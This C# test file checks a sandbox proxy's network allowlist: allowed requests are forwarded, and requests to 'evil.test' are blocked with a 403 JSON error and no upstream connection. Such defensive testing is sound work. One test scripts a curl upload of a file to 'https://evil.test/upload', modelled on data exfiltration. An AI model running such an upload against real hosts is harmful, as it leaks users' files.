using System.Net;
using System.Text.Json;
using Airut.Sandbox.Testing;

namespace Airut.Sandbox.Proxy.Tests;

[Trait(TestCategories.Name, TestCategories.Proxy)]
public sealed class ForwardingTests
{
    [Theory]
    [Trait("Spec", "PX-2")]
    [Trait("Spec", "PX-17")]
    [InlineData("1.1")]
    [InlineData("2.0")]
    public async Task PX_2_allowed_https_request_is_forwarded_over_TLS_with_host_and_raw_target_kept(string version)
    {
        await using var harness = await ProxyHarness.StartAsync();
        using var client = harness.CreateClient(Version.Parse(version));

        using var response = await client.GetAsync(new Uri("https://allowed.test/pub/a%2Fb?q=1"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("ok from allowed.test /pub/a%2Fb?q=1", await response.Content.ReadAsStringAsync());
        var request = Assert.Single(harness.Allowed.Requests);
        Assert.True(request.Tls);
        Assert.Equal("/pub/a%2Fb?q=1", request.Target);
        Assert.Equal(["allowed.test"], request.HeaderValues("Host"));
        Assert.False(request.HasHeader("Via"));
        Assert.False(request.HasHeader("X-Forwarded-For"));
        Assert.Equal(["ALLOWED GET https://allowed.test/pub/a%2Fb?q=1 -> 200"], await harness.LogLinesAsync(1));
    }

    [Fact]
    [Trait("Spec", "PX-21")]
    public async Task PX_21_plain_http_is_judged_by_the_same_rules_and_forwarded_in_plaintext()
    {
        await using var harness = await ProxyHarness.StartAsync();
        using var client = harness.CreateClient();

        using var allowed = await client.GetAsync(new Uri("http://allowed.test/pub/x"));
        using var blocked = await client.GetAsync(new Uri("http://allowed.test/priv/secret"));

        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, blocked.StatusCode);
        Assert.False(Assert.Single(harness.Allowed.Requests).Tls);
        Assert.Equal(
            ["ALLOWED GET http://allowed.test/pub/x -> 200", "BLOCKED GET http://allowed.test/priv/secret -> 403"],
            await harness.LogLinesAsync(2));
    }

    [Fact]
    [Trait("Spec", "PX-13")]
    [Trait("Spec", "SEC-35")]
    public async Task PX_13_blocked_request_gets_403_json_and_causes_no_upstream_connection()
    {
        await using var harness = await ProxyHarness.StartAsync();
        using var client = harness.CreateClient();

        using var response = await client.GetAsync(new Uri("https://evil.test/x?y=1"));

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        using var body = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal("blocked_by_network_allowlist", body.RootElement.GetProperty("error").GetString());
        Assert.Equal("evil.test", body.RootElement.GetProperty("host").GetString());
        Assert.Equal("/x?y=1", body.RootElement.GetProperty("path").GetString());
        Assert.Equal("GET", body.RootElement.GetProperty("method").GetString());
        Assert.Contains("not in the network allowlist", body.RootElement.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.All(harness.Recorders, r => Assert.Equal(0, r.ConnectionCount));
        Assert.Equal(["BLOCKED GET https://evil.test/x?y=1 -> 403"], await harness.LogLinesAsync(1));
        Assert.Contains("BLOCKED GET https://evil.test/x?y=1 -> 403", harness.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    [Trait("Spec", "G1")]
    public async Task G1_a_blocked_upload_with_expect_100_continue_is_refused_before_any_upstream_contact()
    {
        await using var harness = await ProxyHarness.StartAsync();
        var body = Path.Combine(Path.GetTempPath(), $"airut-expect-{Guid.NewGuid():N}");
        await File.WriteAllBytesAsync(body, new byte[2 * 1024 * 1024]);
        try
        {
            var result = await harness.CurlAsync("-o", "/dev/null", "-w", "%{http_code}", "-H", "Expect: 100-continue", "--data-binary", "@" + body, "https://evil.test/upload");

            Assert.Equal("403", result.Stdout);
            Assert.All(harness.Recorders, r => Assert.Equal(0, r.ConnectionCount));
            Assert.Equal(["BLOCKED POST https://evil.test/upload -> 403"], await harness.LogLinesAsync(1));
            await harness.AssertStillServesAsync();
        }
        finally
        {
            File.Delete(body);
        }
    }
}
